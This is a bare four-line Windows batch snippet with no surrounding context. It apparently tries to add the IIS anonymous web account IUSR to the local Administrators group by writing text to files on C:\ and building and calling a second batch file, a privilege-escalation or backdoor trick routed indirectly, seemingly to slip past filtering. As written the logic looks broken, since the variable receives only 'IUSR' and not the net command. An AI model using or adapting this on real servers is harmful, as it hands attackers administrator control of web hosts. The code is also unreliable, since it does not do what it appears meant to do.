echo IUSR> c:\n.txt
set /p who="net localgroup Administrators IUSR /add" < c:\n.txt
echo %who% > c:\t.bat
call c:\t.bat
